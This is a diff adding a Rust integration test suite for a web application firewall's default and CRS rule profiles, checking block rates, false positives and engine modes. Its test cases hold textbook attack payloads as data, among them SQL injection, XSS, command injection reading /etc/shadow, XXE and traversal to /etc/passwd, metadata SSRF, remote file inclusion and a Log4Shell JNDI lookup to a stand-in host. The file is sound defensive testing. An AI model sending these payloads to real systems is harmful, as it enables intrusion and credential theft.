@@ -1,0 +1,297 @@
+//! The built-in default profile and the CRS profile, end to end.
+//!
+//! `default_profile_dataset_rates` replays the team's dev corpus
+//! (`../shared/datasets/dev.jsonl`) and fails when the default profile blocks under 90 % of
+//! its attacks or over 1 % of its benign requests, so a rule change that regresses either
+//! fails CI. The full per-request output is written to
+//! `$CARGO_TARGET_TMPDIR/default-dev.replay` for inspection.
+
+use std::path::{Path, PathBuf};
+use std::time::SystemTime;
+
+use waf_core::{ConnectionInfo, EngineMode, RequestHead, Verdict, Waf};
+use waf_proxy::profile::{self, DEFAULT_RULES};
+use waf_proxy::replay::{self, ReplaySummary};
+
+/// Extra request headers of a test case.
+type Headers<'a> = &'a [(&'a str, &'a str)];
+
+fn shared() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared")
+}
+
+fn dataset() -> PathBuf {
+    shared().join("datasets/dev.jsonl")
+}
+
+/// Runs a GET with `uri` and extra `headers` through phases 1 and 2; the blocking rule id.
+fn check(waf: &Waf, uri: &str, headers: &[(&str, &str)], body: &str) -> Option<u64> {
+    let conn = ConnectionInfo::new(
+        "192.0.2.1:40000".parse().unwrap(),
+        "127.0.0.1:80".parse().unwrap(),
+    );
+    let mut tx = waf.transaction(&conn, SystemTime::UNIX_EPOCH);
+    let mut hs: Vec<(&[u8], &[u8])> = vec![(b"Host", b"example.com")];
+    hs.extend(headers.iter().map(|(n, v)| (n.as_bytes(), v.as_bytes())));
+    let method: &[u8] = if body.is_empty() { b"GET" } else { b"POST" };
+    let head = RequestHead::new(method, uri.as_bytes(), b"HTTP/1.1", &hs);
+    let mut v = tx.request_headers(&head);
+    if v == Verdict::Continue && tx.wants_request_body() {
+        v = tx.request_body(body.as_bytes());
+    }
+    if v == Verdict::Continue {
+        v = tx.request_end();
+    }
+    v.intervention().map(|i| i.rule_id)
+}
+
+fn print_rates(name: &str, s: &ReplaySummary) {
+    println!("{name}: {} requests, {} blocked", s.requests, s.blocked);
+    for (class, c) in &s.classes {
+        println!(
+            "  {class:<15} {:>5} {:>5} {:>7.2}%",
+            c.total,
+            c.blocked,
+            100.0 * c.rate()
+        );
+    }
+    println!(
+        "  detection {:.2}%  false positives {:.2}%",
+        100.0 * s.detection_rate(),
+        100.0 * s.false_positive_rate()
+    );
+}
+
+#[test]
+fn default_rules_compile_with_ids_in_range_and_metadata() {
+    let waf = profile::default_waf(EngineMode::On).unwrap();
+    assert!(waf.warnings().is_empty(), "{:?}", waf.warnings());
+    assert_eq!(waf.engine_mode(), EngineMode::On);
+    // Every rule id of the profile lies in 100000..=199999, and every logging detection
+    // rule has a msg, a tag and a severity.
+    let mut ids = 0;
+    for line in DEFAULT_RULES.lines() {
+        let Some(start) = line.find("\"id:") else {
+            continue;
+        };
+        let id: u64 = line[start + 4..]
+            .split(|c: char| !c.is_ascii_digit())
+            .next()
+            .unwrap()
+            .parse()
+            .unwrap();
+        assert!(
+            (100_000..=199_999).contains(&id),
+            "rule id {id} out of range"
+        );
+        if !line.contains("nolog") {
+            for what in ["msg:", "tag:", "severity:"] {
+                assert!(line.contains(what), "rule {id} has no {what}");
+            }
+        }
+        ids += 1;
+    }
+    assert!(ids >= 20, "only {ids} rules");
+}
+
+#[test]
+fn default_profile_blocks_each_family_and_passes_plain_requests() {
+    let waf = profile::default_waf(EngineMode::On).unwrap();
+    let form = [("Content-Type", "application/x-www-form-urlencoded")];
+    let json = [("Content-Type", "application/json")];
+    let xml = [("Content-Type", "application/xml")];
+    let blocked: &[(&str, Headers, &str, u64)] = &[
+        ("/?id=1%27%20or%20%271%27%3D%271", &[], "", 199002),
+        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", &[], "", 199002),
+        ("/?file=../../../../etc/passwd", &[], "", 199002),
+        ("/?page=php://filter/resource=index", &[], "", 199002),
+        ("/?cmd=x%3Bcat%20/etc/shadow", &[], "", 199002),
+        (
+            "/?u=http://169.254.169.254/latest/meta-data/",
+            &[],
+            "",
+            199002,
+        ),
+        ("/?inc=http://203.0.113.7/shell.txt?", &[], "", 199002),
+        (
+            "/",
+            &[("X-Api-Version", "${jndi:ldap://x.example/a}")],
+            "",
+            199002,
+        ),
+        ("/?t=%7B%7B7*7%7D%7D", &[], "", 199002),
+        ("/?user=*)(uid=*))(|(uid=*", &[], "", 199002),
+        ("/", &[("User-Agent", "sqlmap/1.7")], "", 199001),
+        (
+            "/",
+            &[("Content-Length", "4"), ("Transfer-Encoding", "chunked")],
+            "",
+            199001,
+        ),
+        ("/", &form, "a=1%0d%0aSet-Cookie:%20x=1", 199002),
+        ("/login", &json, r#"{"user":{"$ne":null}}"#, 199002),
+        (
+            "/",
+            &xml,
+            r#"<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>"#,
+            199002,
+        ),
+        ("/", &json, "{not json", 100010),
+    ];
+    for (uri, headers, body, rule) in blocked {
+        assert_eq!(
+            check(&waf, uri, headers, body),
+            Some(*rule),
+            "{uri} {headers:?} {body}"
+        );
+    }
+    let passed: &[(&str, Headers, &str)] = &[
+        ("/", &[], ""),
+        ("/search?q=O%27Brien%20and%20sons", &[], ""),
+        ("/docs?path=guide/intro.html", &[], ""),
+        ("/", &form, "name=Ann&comment=Tom+%26+Jerry%3B+great+show"),
+        ("/api", &json, r#"{"name":"x","tags":["a","b"],"n":1}"#),
+        (
+            "/rss",
+            &xml,
+            "<rss><channel><title>t</title></channel></rss>",
+        ),
+    ];
+    for (uri, headers, body) in passed {
+        assert_eq!(check(&waf, uri, headers, body), None, "{uri} {body}");
+    }
+}
+
+#[test]
+fn default_profile_detection_only_never_blocks() {
+    let req = replay::parse_raw_http(
+        b"GET /?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: example.com\r\n\r\n",
+    )
+    .unwrap();
+    let on = profile::default_waf(EngineMode::On).unwrap();
+    assert_eq!(replay::inspect(&on, &req).blocked, Some(403));
+
+    // Detection only: the same rules match and are reported, nothing is blocked.
+    let waf = profile::default_waf(EngineMode::DetectionOnly).unwrap();
+    assert_eq!(waf.engine_mode(), EngineMode::DetectionOnly);
+    let seen = replay::inspect(&waf, &req);
+    assert_eq!(seen.blocked, None);
+    assert!(seen.rule_ids.contains(&195110), "{seen:?}");
+
+    // Off: no rule runs.
+    let off = profile::default_waf(EngineMode::Off).unwrap();
+    assert_eq!(off.engine_mode(), EngineMode::Off);
+    let seen = replay::inspect(&off, &req);
+    assert_eq!(seen.blocked, None);
+    assert!(seen.rule_ids.is_empty(), "{seen:?}");
+}
+
+#[test]
+fn default_profile_dataset_rates() {
+    let out_path = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("default-dev.replay");
+    let mut out = std::fs::File::create(&out_path).unwrap();
+    let opts = replay::ReplayOptions {
+        files: vec![dataset()],
+        ..Default::default()
+    };
+    let start = std::time::Instant::now();
+    let s = replay::run(&opts, &mut out).unwrap();
+    println!(
+        "replayed in {:?} (rule compilation included)",
+        start.elapsed()
+    );
+    print_rates("default profile", &s);
+    println!("per-request output: {}", out_path.display());
+    assert_eq!(s.errors, 0);
+    assert!(s.attacks.total > 8000 && s.benign.total > 7000, "{s:?}");
+    assert!(
+        s.detection_rate() >= 0.90,
+        "detection {:.4} < 0.90",
+        s.detection_rate()
+    );
+    assert!(
+        s.false_positive_rate() <= 0.01,
+        "false positives {:.4} > 0.01",
+        s.false_positive_rate()
+    );
+}
+
+#[test]
+fn crs_waf_builds_at_each_paranoia_level_and_blocks() {
+    let crs = shared().join("crs");
+    for pl in [0, 2, 9] {
+        let waf = profile::crs_waf(&crs, pl, EngineMode::On).unwrap();
+        assert!(waf.rule_count() > 300);
+        assert_eq!(
+            check(&waf, "/?q=%3Cscript%3Ealert(1)%3C/script%3E", &[], ""),
+            Some(949110),
+            "paranoia {pl}"
+        );
+    }
+    let waf = profile::crs_waf(&crs, 1, EngineMode::DetectionOnly).unwrap();
+    assert_eq!(waf.engine_mode(), EngineMode::DetectionOnly);
+    assert_eq!(
+        check(&waf, "/?q=%3Cscript%3Ealert(1)%3C/script%3E", &[], ""),
+        None
+    );
+}
+
+#[test]
+fn crs_waf_missing_directory_is_an_error() {
+    let err = profile::crs_waf(Path::new("/nonexistent/crs"), 1, EngineMode::On).unwrap_err();
+    assert_eq!(err.kind(), waf_core::ErrorKind::Io);
+}
+
+/// CRS PL1 over the dev corpus, for comparison with the default profile. Slow (CRS runs
+/// hundreds of rules per request): `cargo test -p waf-proxy --release --test profile --
+/// --ignored --nocapture`.
+#[test]
+#[ignore]
+fn crs_pl1_dataset_rates() {
+    let out_path = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("crs-pl1-dev.replay");
+    let mut out = std::fs::File::create(&out_path).unwrap();
+    let opts = replay::ReplayOptions {
+        crs: Some(shared().join("crs")),
+        files: vec![dataset()],
+        ..Default::default()
+    };
+    let start = std::time::Instant::now();
+    let s = replay::run(&opts, &mut out).unwrap();
+    println!(
+        "replayed in {:?} (rule compilation included)",
+        start.elapsed()
+    );
+    print_rates("CRS PL1", &s);
+    println!("per-request output: {}", out_path.display());
+    assert_eq!(s.errors, 0);
+}
+
+/// Harmless text that looks like attacks (SQL words, shell commands in docs, templates,
+/// relative paths, rich-text HTML), written for this test: none of it may be blocked.
+#[test]
+fn default_profile_passes_fp_bait() {
+    let mut out = Vec::new();
+    let opts = replay::ReplayOptions {
+        files: vec![Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/fp-bait.jsonl")],
+        ..Default::default()
+    };
+    let s = replay::run(&opts, &mut out).unwrap();
+    let text = String::from_utf8(out).unwrap();
+    assert_eq!(s.benign.total, 37);
+    assert_eq!(s.blocked, 0, "{text}");
+}
+
+/// Textbook attacks of every family the profile covers, written for this test (one per
+/// line in `tests/fixtures/attacks.jsonl`): every one must be blocked.
+#[test]
+fn default_profile_blocks_textbook_attacks() {
+    let mut out = Vec::new();
+    let opts = replay::ReplayOptions {
+        files: vec![Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/attacks.jsonl")],
+        ..Default::default()
+    };
+    let s = replay::run(&opts, &mut out).unwrap();
+    let text = String::from_utf8(out).unwrap();
+    assert_eq!(s.attacks.total, 39);
+    assert_eq!(s.attacks.blocked, 39, "{text}");
+}
